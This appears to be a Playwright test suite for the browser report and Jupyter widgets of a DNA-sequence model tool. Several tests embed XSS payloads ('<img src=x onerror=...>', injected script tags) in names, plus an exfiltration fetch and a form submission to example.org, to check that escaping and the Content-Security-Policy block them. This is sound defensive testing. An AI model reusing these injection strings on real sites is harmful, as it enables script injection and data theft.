"""What people touch in a browser: a report with its reader, rules and designs, and the widgets in Voila and JupyterLab, driven by mouse and keyboard."""
import base64
import importlib.util
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from dataclasses import replace
from html import escape

import numpy as np
import pytest

from argminn.data import fit_length
from argminn.motifs import consensus_motif
from argminn.recipe import predict_logits
from argminn.run import Run, compile_formula, write_report
from argminn.sequences import decode, encode
from conftest import fasta

SITE = "GGTCACGTGA"


@pytest.fixture
def opened(browser, request):
    "opened(file, **options): a page, whose errors, console messages and requests for anything but the file fail the test in the end."
    pages = []

    def open_(file, **options):
        page = browser.new_page(**options)
        told = []
        page.add_init_script("document.addEventListener('securitypolicyviolation', e => console.error('policy: ' + e.violatedDirective))")
        page.on("pageerror", lambda e: told.append(f"error: {e}"))
        page.on("console", lambda m: told.append(f"console: {m.text}") if m.type in ("error", "warning") else None)
        page.on("request", lambda r: told.append(f"request: {r.url}") if not r.url.startswith(("file://", "data:")) else None)
        page.goto(f"file://{file}")
        pages.append((page, told))
        return page

    yield open_
    for page, told in pages:
        page.close()
        assert told == []


def logit(page): return page.evaluate("document.querySelector('#argminn-reader').reader.reading.logits[0]")
def python_logit(run, text): return float(predict_logits(run.model, fit_length(encode(text), run.model.config.length)[0][None])[0, 0])


def test_reader_in_the_report(small_run, opened):
    "Python's answer for pasted DNA; a base changed by mouse and by keyboard, and back; layers stepped through; bad input changes nothing."
    run, page = Run.load(small_run), opened(small_run / "report.html", viewport=dict(width=1100, height=800))
    reader = page.locator("#argminn-reader")
    texts = [line for line in fasta(4, seed=9).splitlines() if not line.startswith(">")] + ["ACGTNNNNACGTACGTACGTACGT", f">a header\n{'ACGT' * 6}\n{SITE.lower()}"]
    for text in texts:
        reader.locator("textarea").fill(text)
        reader.get_by_role("button", name="Read", exact=True).click()
        bare = "".join(line for line in text.splitlines() if not line.startswith(">"))
        assert abs(logit(page) - python_logit(run, bare)) < 1e-4
        assert reader.locator(".base").count() == len(bare)
    text = "ACGT" * 5 + SITE + "TTAA" * 5
    reader.locator("textarea").fill(text)
    page.keyboard.press("Control+Enter")
    before, at = logit(page), 20 + SITE.index("CACGTG") + 2
    assert "probability" in reader.locator(".said").inner_text() and reader.locator("svg rect[rx]").count() >= 1 and "It reads" in reader.inner_text()
    reader.locator(f'[data-at="{at}"]').click() # C, then G
    changed = text[:at] + "ACGT"[("ACGT".index(text[at]) + 1) % 4] + text[at + 1:]
    assert reader.locator("textarea").input_value() == changed and abs(logit(page) - python_logit(run, changed)) < 1e-4
    assert "Changed:" in reader.inner_text() and "before:" in reader.locator(".said").inner_text() and logit(page) < before
    page.keyboard.press("ArrowLeft")
    assert page.evaluate("document.activeElement.dataset.at") == str(at - 1)
    page.keyboard.press("ArrowRight")
    page.keyboard.press(text[at].lower()) # typed back
    assert reader.locator("textarea").input_value() == text and abs(logit(page) - before) < 1e-9 and "Changed:" not in reader.inner_text()
    page.keyboard.press("Enter")
    reader.get_by_role("button", name="Undo").click()
    assert reader.locator("textarea").input_value() == text
    layers = run.model.config.layers
    reader.get_by_title("the next layer").click()
    assert f"layer 1 of {layers}" in reader.inner_text() and reader.locator(".scroll svg").get_attribute("aria-label").endswith("attention of 1 layers")
    reader.get_by_title("the layer before").click()
    for wrong, line in (("ACGT!", 'holds "!"'), ("", "no sequence"), (">only a header", "no sequence"), ("A" * 5000, "has 5000 bases; expected up to")):
        reader.locator("textarea").fill(wrong)
        reader.get_by_role("button", name="Read", exact=True).click()
        assert line in reader.locator(".said.wrong").inner_text() and abs(logit(page) - before) < 1e-9
    page.evaluate("document.querySelector('#argminn-reader').reader.sequence = 'ACGTACGTACGTACGTACGTACGT'") # its state can be set
    assert page.evaluate("document.querySelector('#argminn-reader').reader.sequence") == "ACGT" * 6 and reader.locator(".wrong").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_reader_page_in_both_schemes(small_run, opened, tmp_path, scheme):
    "A page of its own follows the reader's colour scheme; names cannot become markup."
    from argminn.reader import reader_page, web_model
    run = Run.load(small_run)
    (tmp_path / "page.html").write_text(reader_page(web_model(run.model, run.found, run.rules.short.rules, [("</script><img src=x onerror=alert(1)>", "ACGT" * 15)]), "<b>a title"))
    page = opened(tmp_path / "page.html", color_scheme=scheme)
    ink = page.evaluate("getComputedStyle(document.querySelector('#argminn-reader')).color")
    assert (np.mean([int(x) for x in ink[4:-1].split(",")]) > 128) == (scheme == "dark")
    assert page.locator("h1").inner_text() == "<b>a title" and page.locator("img").count() == 0


EVIL = "<img src=x onerror=window.hit=1></script><script>window.hit=2</script>"


@pytest.fixture(scope="session")
def evil_report(small_run, tmp_path_factory):
    "The report of a run whose motifs and sequences have names that would be scripts."
    folder = tmp_path_factory.mktemp("evil") / "run"
    shutil.copytree(small_run, folder)
    for name in ("examples.tsv", "instances.tsv"): (folder / name).write_text(re.sub(r"^(chr\d)", lambda m: m[1] + EVIL, (folder / name).read_text(), flags=re.M))
    run = Run.load(folder)
    run.found = [replace(m, motif=replace(m.motif, name=EVIL)) for m in run.found]
    return write_report(run)


def test_names_stay_names(evil_report, opened):
    "Nothing that a name says runs; the reader does; the policy has nothing to object."
    page = opened(evil_report)
    assert page.evaluate("window.hit") is None and page.locator("img[src=x]").count() == 0 and EVIL in page.inner_text("h3 >> nth=0")
    assert page.locator(".argminn-reader .base").count() == 60 and page.locator(".argminn-studio .letters").count() == 1


def test_policy_holds_where_a_name_is_not_escaped(evil_report, browser, tmp_path):
    "Were a name markup after all: no script, no handler, no style, no request."
    text = evil_report.read_text()
    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', text)[1]
    assert "unsafe" not in policy and {"default-src 'none'", "img-src data:", "connect-src 'none'", "base-uri 'none'", "form-action 'none'"} <= {x.strip() for x in policy.split(";")}
    (tmp_path / "broken.html").write_text(text.replace(escape(EVIL), EVIL + "<span id=bold style=color:red></span>", 1).replace("<body", "<base href=https://example.org><body"))
    page, asked = browser.new_page(), []
    page.add_init_script("window.violations = []; document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective))")
    page.on("request", lambda r: asked.append(r.url) if not r.url.startswith(("file://", "data:")) else None)
    page.goto(f"file://{tmp_path / 'broken.html'}")
    assert page.locator("#bold").count() == 1 # it is markup
    assert page.evaluate("fetch('https://example.org/?stolen').catch(() => 'refused')") == "refused"
    page.evaluate("() => { const f = document.createElement('form'); f.action = 'https://example.org'; document.body.append(f); f.submit(); }")
    page.evaluate("new Promise(done => { const look = () => violations.includes('form-action') ? done() : setTimeout(look, 20); look(); })") # `wait_for_function` looks again by eval, which the policy forbids: it failed where the event came late
    assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src", "base-uri", "form-action"} <= set(page.evaluate("violations"))
    assert page.evaluate("window.hit") is None and asked == [] and page.locator(".argminn-reader .base").count() == 60
    page.close()


@pytest.fixture(scope="session")
def pair_run(tmp_path_factory):
    "A run that was made from a pair at a gap, and the sequences on which its rules were tested."
    from argminn.compiler import compile_network, probes
    motifs = [replace(consensus_motif(text), name=name, motif_id=name) for text, name in (("ACGTCATCG", "A"), ("TTCGAGGC", "B"))]
    run = compile_formula(PAIR, motifs, 80, tmp_path_factory.mktemp("pair") / "run", n=1000)
    return run, probes(compile_network(PAIR, motifs, 80), 1000, 0)[800:]


PAIR = "exists x y. A(x,+) & B(y,+) & gap(x,y) in [0,12]"


def table(card): return [[cell.inner_text() for cell in row.locator("td").all()] for row in card.locator("table.support tr").all()[1:]]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_rule_cards(pair_run, opened, scheme):
    "The window of a gap moves by keyboard and by mouse; the counts are those of `RuleExplorer`."
    from argminn.widgets import RuleExplorer
    run, sequences = pair_run
    explorer, page = RuleExplorer(run, sequences), opened(run.path / "report.html", color_scheme=scheme, viewport=dict(width=1100, height=900))
    rule = run.rules.short.rules[0]
    card = page.locator(f"[data-rule={rule.rule_id}]")
    least, most = card.get_by_role("slider").all()

    def same_as_python(window):
        explorer.formula = replace(rule, gap=window).formula
        assert card.locator("code").inner_text() == explorer.formula
        for told, row in zip(table(card), explorer.table.itertuples(index=False)):
            assert told[:2] == [str(row[0]), str(row[1])] and told[2] == f"{100 * row[2]:.1f} %"
            for mine, his in zip(told[3:], row[3:]): assert mine == "–" if his != his else abs(float(mine) - his) < 2e-3
        return table(card)

    seen = [same_as_python(rule.gap)]
    assert card.get_by_role("button", name="as found").is_disabled()
    most.focus()
    for _ in range(4): page.keyboard.press("ArrowLeft")
    seen.append(same_as_python((rule.gap[0], rule.gap[1] - 4)))
    least.focus()
    for _ in range(rule.gap[1] - 2 - rule.gap[0]): page.keyboard.press("ArrowRight") # past the other end, which gives way
    seen.append(same_as_python((rule.gap[1] - 2,) * 2))
    picture = card.locator("svg.gaps").bounding_box()
    page.mouse.move(picture["x"] + picture["width"] / 2, picture["y"] + 40)
    page.mouse.down()
    page.mouse.move(picture["x"] + picture["width"] - 3, picture["y"] + 40, steps=4)
    page.mouse.up()
    ends = [int(e.input_value()) for e in (least, most)]
    assert ends[1] > rule.gap[1] and card.locator(".window").bounding_box()["x"] > picture["x"]
    seen.append(same_as_python(tuple(ends)))
    assert len({str(x) for x in seen}) > 2 # they do differ
    card.get_by_role("button", name="as found").click()
    assert same_as_python(rule.gap) == seen[0]
    paper = page.evaluate("getComputedStyle(document.querySelector('.argminn-card')).backgroundColor")
    assert (np.mean([int(x) for x in re.findall(r"\d+", paper)[:3]]) < 128) == (scheme == "dark")


def test_designs_in_the_report(pair_run, small_run, opened):
    "A design opens by mouse and keyboard; FASTA as Python writes it; the reader takes the sequence."
    from argminn.apply import design_sequences
    run, _ = pair_run
    page, rule = opened(run.path / "report.html"), run.rules.short.rules[0]
    made, studio = design_sequences(run, rule.rule_id, n=8), page.locator(".argminn-studio")
    link = studio.get_by_role("link", name="designs as FASTA").first
    text = made.fasta.replace(f"rule={rule.rule_id} ", "")
    assert base64.b64decode(link.get_attribute("href").split(",")[1]).decode() == text and link.get_attribute("download") == f"designs_{rule.rule_id}.fa"
    with page.expect_download() as download: link.click()
    assert open(download.value.path()).read() == text
    rows = studio.locator("[data-part]").first.locator(".design")
    rows.nth(2).click()
    assert studio.locator(".letters").inner_text() == made.sequences[2] and rows.nth(2).get_attribute("aria-pressed") == "true"
    page.keyboard.press("ArrowDown")
    assert studio.locator(".letters").inner_text() == made.sequences[3] and "design_4" in studio.inner_text() and page.evaluate("document.activeElement.dataset.at") == "3"
    sites = made.sites[made.sites.name == "design_4"].sort_values("start")
    assert studio.locator(".letters .site").all_inner_texts() == [made.sequences[3][s.start:s.end] for s in sites.itertuples()]
    page = opened(small_run / "report.html")
    studio = page.locator(".argminn-studio")
    if studio.get_by_label("rule", exact=True).count(): studio.get_by_label("rule", exact=True).select_option(index=1)
    studio.get_by_role("button", name="Open in the reader").click()
    assert page.locator(".argminn-reader textarea").input_value() == studio.locator(".letters").inner_text() and logit(page) > 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_bench_in_the_report(small_run, opened, scheme):
    "A motif is changed by mouse and by keyboard: its sites, its match and the network's auROC are those of `MotifBench`; bad input changes nothing."
    from playwright.sync_api import expect
    from argminn.widgets import MotifBench
    run, page = Run.load(small_run), opened(small_run / "report.html", color_scheme=scheme, viewport=dict(width=1100, height=900))
    mine, box = MotifBench(run=run, sequences=run.labelled(small_run / "tried.tsv"), most=10**6), page.locator(".argminn-bench")

    def same_as_python():
        expect(box.locator(".facts")).to_contain_text("at first") # all sequences were read
        state = page.evaluate("(({motif, n_calls, auroc, match, ends}) => ({ppm: motif.ppm, n_calls, auroc, id: match.target.id, q: match.q_value, ends}))(document.querySelector('.argminn-bench').bench)")
        np.testing.assert_allclose(np.array(state["ppm"]).T, mine.motif.ppm, atol=1e-5)
        assert state["n_calls"] == mine.n_calls and abs(state["auroc"] - mine.auroc) < .01 and tuple(state["ends"]) == mine.ends.value
        assert box.locator("svg.bench").get_attribute("aria-label") == f"logo of {mine.motif.consensus}" and f"bits {mine.motif.information_content:.1f}" in box.locator(".facts").inner_text()
        if mine.match.target: assert abs(np.log10(state["q"] / mine.match.q_value)) < 1 and state["id"] in [mine.match.target.motif_id, *(t.motif_id for t, _ in mine.match.others)]
        return state["auroc"]

    first = same_as_python()
    box.get_by_role("slider", name="column", exact=True).focus()
    for _ in range(3): page.keyboard.press("ArrowRight")
    weak = min("ACGT", key=lambda b: mine.motif.ppm["ACGT".index(b), 3])
    for _ in range(7):
        box.get_by_role("button", name=f"{weak} +").click()
        mine.nudge(weak, .1, 4)
    assert same_as_python() <= first
    logo = box.get_by_role("group", name="the logo")
    logo.focus()
    page.keyboard.press("ArrowRight") # to column 5
    for _ in range(3):
        page.keyboard.press("c")
        mine.nudge("C", .1, 5)
    page.keyboard.press("Shift+G")
    mine.nudge("G", -.1, 5)
    same_as_python()
    box.locator("[data-column='2']").click(position=dict(x=5, y=70))
    assert box.get_by_role("slider", name="column", exact=True).input_value() == "2"
    box.get_by_role("slider", name="from column").focus()
    page.keyboard.press("ArrowRight")
    mine.ends.value = (2, mine.ends.max)
    box.get_by_role("slider", name="p-value of a site, power of ten").focus()
    for _ in range(4): page.keyboard.press("ArrowRight")
    mine.p_value = 1e-3
    same_as_python()
    field, facts = box.get_by_placeholder("GATA1, MA0035 or WGATAR"), box.locator(".facts").inner_text()
    for wrong, said in (("what?", "is no motif of JASPAR"), ("GATA" * 5, "expected a narrower one"), ("<img src=x>", "is no motif")):
        field.fill(wrong)
        field.press("Enter")
        assert said in box.locator(".said.wrong").inner_text() and box.locator(".facts").inner_text() == facts
    field.fill("ma0035")
    field.press("Enter")
    mine.motif = "MA0035"
    expect(box.locator("svg.bench")).to_have_attribute("aria-label", f"logo of {mine.motif.consensus}")
    expect(box.locator(".facts")).to_contain_text("best match GATA1")
    box.get_by_role("button", name="as it was").click()
    mine.motif = mine._first
    assert abs(same_as_python() - first) < 1e-9
    one = consensus_motif("TGACTCA")
    one = replace(one, ppm=np.round(one.ppm)) # columns of one letter: the others share what it gives
    mine.motif = one
    page.evaluate("ppm => { const b = document.querySelector('.argminn-bench').bench; b.motif = 'TGACTCA'; for (const [k, c] of ppm.entries()) b.nudge('ACGT'[c.indexOf(1)], 1, k + 1); b.nudge('T', -.1, 1); }", one.ppm.T.tolist())
    mine.nudge("T", -.1, 1)
    np.testing.assert_allclose(page.evaluate("document.querySelector('.argminn-bench').bench.motif.ppm[0]"), mine.motif.ppm[:, 0], atol=.01)
    page.reload()
    page.evaluate("document.querySelector('.argminn-bench').bench.nudge('A', .5, 3)") # before the first number stands
    expect(box.locator(".facts")).to_contain_text(f"at first {first:.3f}")


def test_bench_of_a_widget(tmp_path, opened):
    "What `MotifBench` leaves in a page without a kernel: alive, without a network; motifs of JASPAR that it does not hold are told."
    from argminn.widgets import MotifBench
    (tmp_path / "page.html").write_text(f'<!doctype html><meta charset="utf-8"><body>{MotifBench("GATA1").still()}</body>')
    box = opened(tmp_path / "page.html").locator(".argminn-bench")
    assert "best match" in box.inner_text() and "auROC" not in box.inner_text() and "sites in" not in box.inner_text()
    field = box.get_by_role("textbox")
    assert "best match of 25" in box.inner_text()
    for text, consensus in (("CTCF", None), ("GATA2", True), ("TGACTCA", "TGACTCA")):
        field.fill(text)
        field.press("Enter")
        if consensus is None: assert "that this page holds" in box.locator(".said.wrong").inner_text()
        else: assert box.locator(".said").inner_text() == "" and (consensus is True or box.locator("svg.bench").get_attribute("aria-label") == f"logo of {consensus}")


PANELS = '''
import os
from argminn.run import Run
from argminn.widgets import DesignStudio, MotifBench, RuleExplorer, SequenceReader
run = Run.load({run!r})
sequences = run.labelled({peaks!r})
bench, reader, studio = MotifBench(run=run, sequences=sequences), SequenceReader(run, {text!r}, genome={genome!r}), DesignStudio(run)
made = Run.load({made!r})
explorer = RuleExplorer(made, made.labelled({tried!r}))
os.chdir({folder!r})
'''


@pytest.fixture
def served(small_run, pair_run, tmp_path):
    "served(program, *options): a server of a notebook with the four widgets is started; (its address, the folder in which they write)."
    started = []

    def serve(program, *options):
        made, tried = pair_run
        (tmp_path / "tried.tsv").write_text("sequence\tlabel\n" + "".join(f"{decode(c)}\t{int(y)}\n" for c, y in zip(tried.codes, tried.labels[:, 0])))
        (tmp_path / "genome.fa").write_text(f">chr9\n{'ACGTT' * 5}{SITE}{'GATTACA' * 4}\n")
        code = PANELS.format(genome=str(tmp_path / "genome.fa"), run=str(small_run), peaks=str(small_run.parent / "peaks.fa"), text="ACGT" * 5 + SITE + "TTAA" * 5, folder=str(tmp_path), made=str(made.path), tried=str(tmp_path / "tried.tsv"))
        cells = [dict(cell_type="code", id=f"c{k}", metadata={}, execution_count=None, outputs=[], source=source) for k, source in enumerate((code, "bench", "reader", "explorer", "studio"))]
        (tmp_path / "panels.ipynb").write_text(json.dumps(dict(cells=cells, metadata=dict(kernelspec=dict(display_name="python3", language="python", name="python3")), nbformat=4, nbformat_minor=5)))
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        homes = {name: str(tmp_path / ".jupyter") for name in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "JUPYTERLAB_SETTINGS_DIR", "JUPYTERLAB_WORKSPACES_DIR")} # nobody's own
        started.append(subprocess.Popen([sys.executable, "-m", program, "--no-browser", f"--port={port}", *options], cwd=tmp_path, env=os.environ | homes, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        for _ in range(120):
            try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api", timeout=1)
            except urllib.error.HTTPError: break # it answers
            except OSError:
                assert started[0].poll() is None, f"{program} ended"
                time.sleep(.3)
            else: break
        return f"http://127.0.0.1:{port}/", tmp_path

    yield serve
    for process in started:
        process.terminate()
        process.wait(20)


@pytest.fixture
def local_page(browser):
    "local_page(address): a page that reaches only the server; what it asked for elsewhere, and its errors, fail the test in the end."
    pages, told = [], []

    def open_(address, ignored=()):
        page = browser.new_page(viewport=dict(width=1250, height=1000))
        local = (address, "data:", "blob:", address.replace("http", "ws"))
        page.on("request", lambda r: told.append(r.url) if not r.url.startswith(local) and not any(x in r.url for x in ignored) else None)
        page.route(lambda url: not url.startswith(local), lambda route: route.abort())
        page.on("pageerror", lambda e: told.append(str(e)))
        pages.append(page)
        return page

    yield open_
    for page in pages: page.close()
    assert told == []


def test_voila(served, local_page):
    "All four panels, alive in Voila."
    address, folder = served("voila", "panels.ipynb")
    page = local_page(address, ignored=["@fortawesome"]) # Voila's own template asks for its icons
    page.goto(address, timeout=120_000)
    drive(page, folder)


def test_jupyterlab(served, local_page):
    "All four panels, alive in JupyterLab; a letter typed on a base changes the base, and is no command to the notebook."
    if importlib.util.find_spec("jupyterlab") is None:
        assert os.environ.get("ARGMINN_BROWSER") != "required", "this run requires jupyterlab; expected it"
        pytest.skip("no JupyterLab: it is not driven")
    address, folder = served("jupyterlab", "--IdentityProvider.token=", "--LabApp.news_url=None", "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate", "--allow-root")
    page = local_page(address)
    page.goto(f"{address}lab/tree/panels.ipynb", timeout=60_000)
    page.locator(".jp-CodeCell").nth(4).wait_for(timeout=60_000)
    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for(timeout=60_000)
    page.get_by_role("button", name="No", exact=True).click() # no news
    page.locator(".jp-CodeCell .cm-content").first.click()
    page.keyboard.press("Shift+Enter") # the first one by keyboard, all by the menu
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    drive(page, folder)
    assert page.locator(".jp-CodeCell").count() == 5


def drive(page, folder):
    "What is shown follows mouse and keyboard, and bad input is answered."
    from playwright.sync_api import expect
    # MotifBench
    field = page.get_by_placeholder("GATA1, MA0035 or WGATAR")
    field.wait_for(timeout=60_000)
    logo = page.locator("svg[aria-label^='logo of']").first
    first = logo.get_attribute("aria-label")
    field.fill("TGACTCA")
    field.press("Enter")
    page.locator("svg[aria-label='logo of TGACTCA']").wait_for()
    assert "the network's auROC" in page.inner_text("body")
    for _ in range(8): page.get_by_role("button", name="C +").click() # of column 1
    page.locator("svg[aria-label='logo of CGACTCA']").wait_for()
    field.fill("what?")
    field.press("Enter")
    page.get_by_text("is no motif of JASPAR").wait_for()
    assert page.locator("svg[aria-label='logo of CGACTCA']").count() == 1
    page.get_by_role("button", name="as it was").click()
    page.locator(f"svg[aria-label='{first}']").first.wait_for()
    slider = page.get_by_role("slider").first # the column, by keyboard
    slider.focus()
    page.keyboard.press("ArrowRight")
    page.locator("svg rect[stroke='#1f6f8b'][x='44']").wait_for()
    # SequenceReader
    reader = page.locator(".argminn-reader")
    reader.locator(".base").first.wait_for()
    assert "monospace" in reader.locator(".base").first.evaluate("x => getComputedStyle(x).fontFamily") # its style came along
    said = reader.locator(".said").inner_text()
    reader.locator('[data-at="24"]').click()
    assert "before:" in reader.locator(".said").inner_text() and reader.locator(".said").inner_text() != said
    for letter in "aca": page.keyboard.press(letter) # of which a notebook makes commands
    assert reader.locator('[data-at="24"]').text_content() == "A" and page.evaluate("document.activeElement.dataset.at") == "24"
    reader.locator("textarea").fill("AC?T")
    reader.get_by_role("button", name="Read", exact=True).click()
    assert 'holds "?"' in reader.inner_text()
    for region, said in (("chr9:5-35", None), ("chr7:5-35", "does not hold"), ("chr9:5-95", "beyond the end")):
        reader.locator("textarea").fill(region)
        reader.get_by_role("button", name="Read", exact=True).click()
        if said: expect(reader.locator(".said.wrong")).to_contain_text(said)
        else: expect(reader.locator("textarea")).to_have_value(f">chr9:5-35\n{('ACGTT' * 5 + SITE)[5:35]}")
    assert reader.locator(".base").count() == 30
    # RuleExplorer
    formula, gap = page.get_by_label("formula", exact=True).first, page.locator(".widget-hslider", has_text="gap, bp").get_by_role("slider")
    asked, told = formula.input_value(), page.get_by_text("it holds in").locator("xpath=ancestor::table")
    counts = told.text_content()
    assert "gap(x,y) in [0,12]" in asked
    gap.last.focus() # the most
    for _ in range(6): page.keyboard.press("ArrowLeft")
    expect(formula).to_have_value(asked.replace("[0,12]", "[0,6]"))
    expect(told).not_to_have_text(counts)
    page.locator(".widget-dropdown", has_text="rule").first.locator("select").select_option(index=1)
    expect(formula).to_have_value("(exists x. A(x)) & (exists y. B(y))")
    formula.fill("atleast 2 x. A(x)")
    formula.press("Enter")
    page.get_by_text("the network says, where it holds").wait_for()
    formula.fill("exists x. M77(x)")
    formula.press("Enter")
    page.get_by_text("M77").first.wait_for()
    assert formula.input_value() == "atleast 2 x. A(x)"
    # DesignStudio
    page.get_by_label("designs", exact=True).fill("4")
    page.get_by_role("button", name="Design", exact=True).click()
    page.get_by_text("designs of 60 bp accepted").wait_for(timeout=60_000)
    page.get_by_placeholder("designs.fa").fill("mine.fa")
    page.get_by_placeholder("designs.fa").press("Enter")
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_text("designs: mine.fa").wait_for()
    assert (folder / "mine.fa").read_text().count(">") == 4
